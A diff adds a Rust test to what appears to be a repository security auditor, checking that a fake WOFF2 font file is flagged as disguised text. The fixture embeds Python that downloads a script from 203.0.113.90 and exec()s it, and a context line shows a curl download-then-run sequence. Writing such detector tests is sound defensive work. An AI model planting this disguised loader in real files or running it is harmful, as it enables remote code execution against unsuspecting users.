@@ -1122,3 +1122,18 @@ fn a_file_run_from_a_downloaded_archive_is_a_download_run() {
         "curl -sL https://data.example.org/set.tgz -o set.tgz\ntar -xzf set.tgz\npython3 scripts/process.py set/\n",
     );
 }
+
+#[test]
+fn a_program_dressed_as_an_asset_is_read_as_one() {
+    let mut font =
+        b"#wOF2\x01\x8f\xe2\x9a\xb7\x13\xd4\xc1\xfe\x07\x88\x91\xa0\xba\xcc\x1f\x02\xe9\n".to_vec();
+    font.extend_from_slice(b"import sys\nfrom urllib.request import urlopen as _u\n_g = lambda: _u('http://203.0.113.90/b.py').read()\nexec(_g())\nsys.stdout.write('.icon{}')\n");
+    let found = audit_with(&[("assets/fonts/IconFont.woff2", &font)], &[]);
+    assert!(
+        found.contains(&(Rule::DisguisedText, Severity::Medium)),
+        "{found:?}"
+    );
+    // A real binary asset, NULs and all, is only noted.
+    let real = b"wOF2\x00\x01\x00\x00\x00\x00\x1c\x80\x00\x0b\x00\x00\x00\x00\x3d\x6c\n\x00\x00\x1c\x36\x00\x01\x00\x00\n\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\n";
+    assert!(audit_with(&[("assets/fonts/Real.woff2", real)], &[]).is_empty());
+}
